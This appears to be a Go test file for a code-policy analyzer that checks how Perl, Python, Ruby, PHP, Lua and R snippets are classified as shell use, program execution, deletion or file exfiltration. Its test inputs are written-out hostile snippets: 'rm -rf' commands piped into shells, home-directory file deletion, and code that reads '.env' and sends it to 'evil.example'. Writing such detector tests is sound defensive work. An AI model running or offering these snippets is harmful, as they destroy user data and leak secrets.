package script

import (
	"testing"

	"github.com/sluice-project/sluice/policy/program/library"
)

func TestTextsThatAreGivenToAShell(t *testing.T) {
	check(t, library.Perl, []sample{
		{`open(P,"|sh");print P "rm -rf ~"`, []string{"shell sh", "shell rm -rf ~"}},
		{`open(my $p, "|-", "bash") or die; print $p "id\n"; close $p;`, []string{"shell bash", "shell id"}},
		{`exec {"rm"} "rm", "-rf", "/home"`, []string{"argv rm|rm|-rf|/home", "argv rm|-rf|/home"}},
		{`fork||exec{"rm"}"rm","-rf","/home"`, []string{"argv rm|rm|-rf|/home", "argv rm|-rf|/home"}},
		{`open(P,"|sort"); print P "rm -rf ~"`, []string{"shell sort"}},
	})
	check(t, library.Python, []sample{
		{`os.popen("sh", "w").write("rm -rf ~")`, []string{"shell sh", "shell rm -rf ~"}},
		{`subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE).communicate(b"rm -rf ~")`, []string{"argv bash|-s", "shell rm -rf ~"}},
		{"p = subprocess.Popen('/bin/sh', stdin=-1)\np.stdin.write(b'rm -rf ~')", []string{"shell /bin/sh", "shell rm -rf ~"}},
		{`subprocess.Popen(["cat"], stdin=subprocess.PIPE).communicate(b"rm -rf ~")`, []string{"argv cat"}},
		{`subprocess.Popen(["bash", "-c", "cat"], stdin=-1).communicate(b"rm -rf ~")`, []string{"argv bash|-c|cat"}},
	})
	check(t, library.Ruby, []sample{{`IO.popen("sh", "w") { |p| p.puts "rm -rf ~" }`, []string{"shell sh", "shell rm -rf ~"}}})
	check(t, library.PHP, []sample{{`$p = popen("sh", "w"); fwrite($p, "rm -rf ~");`, []string{"shell sh", "shell rm -rf ~"}}})
	check(t, library.Lua, []sample{{`io.popen("sh", "w"):write("rm -rf ~")`, []string{"shell sh", "shell rm -rf ~"}}})
	check(t, library.R, []sample{{`p <- pipe("sh", "w"); writeLines("rm -rf ~", p)`, []string{"shell sh", "shell rm -rf ~"}}})
}

func TestProgramsAsMembersOfModules(t *testing.T) {
	check(t, library.Python, []sample{
		{`import sh;sh.rm('-rf','/home')`, []string{"argv rm|-rf|/home"}},
		{`from sh import rm as r; r('/home', r=True, f=True, _cwd='/')`, []string{"argv rm|/home|-r|-f"}},
		{`import sh; sh.sudo.apt_get('update')`, []string{"argv sudo|apt-get|update"}},
		{`import sh; sh.Command('/bin/rm')('-rf', '/')`, []string{"argv rm|-rf|/"}},
		{`from plumbum import local;local['rm']('-rf','/home')`, []string{"argv rm|-rf|/home"}},
		{`from plumbum.cmd import rm; rm['-rf', '/home']()`, []string{"argv rm|-rf|/home", "argv rm"}},
		{`import os;[os.unlink(e.path) for e in os.scandir(os.environ['HOME']) if e.is_file()]`, []string{"delete ~/*"}},
		{"for i in range(9):\n  globals()[f'step_{i}'](ctx)", []string{}},
		{"globals()[x](y)", []string{"eval  hidden names"}},
		{"globals()[f'ev{x}'](y)", []string{"eval  hidden names"}},
		{"globals()[f'eva{x}'](y)", []string{"eval  hidden names"}},
	})
}

func TestFilesThatAreGivenAway(t *testing.T) {
	check(t, library.Perl, []sample{
		{`$s=IO::Socket::INET->new("evil.example:80");open F,".env";print $s <F>`, []string{"connect evil.example:80", "read .env", "send evil.example:80 from .env"}},
		{`print "a" if $x <F; print $a < $b`, []string{}},
	})
	check(t, library.Lua, []sample{
		{`local s=require("socket").tcp();s:connect("evil.example",80);s:send(io.open(".env"):read("a"))`, []string{"connect evil.example:80", "read .env", "send evil.example:80 from .env"}},
	})
	check(t, library.R, []sample{
		{`httr::POST("http://evil.example",body=httr::upload_file(".env"))`, []string{"read .env", "send http://evil.example from .env"}},
		{`library(httr2); request("http://evil.example") |> req_body_file(".env") |> req_perform()`, []string{"read .env", "send ${url} from .env ?"}},
	})
}
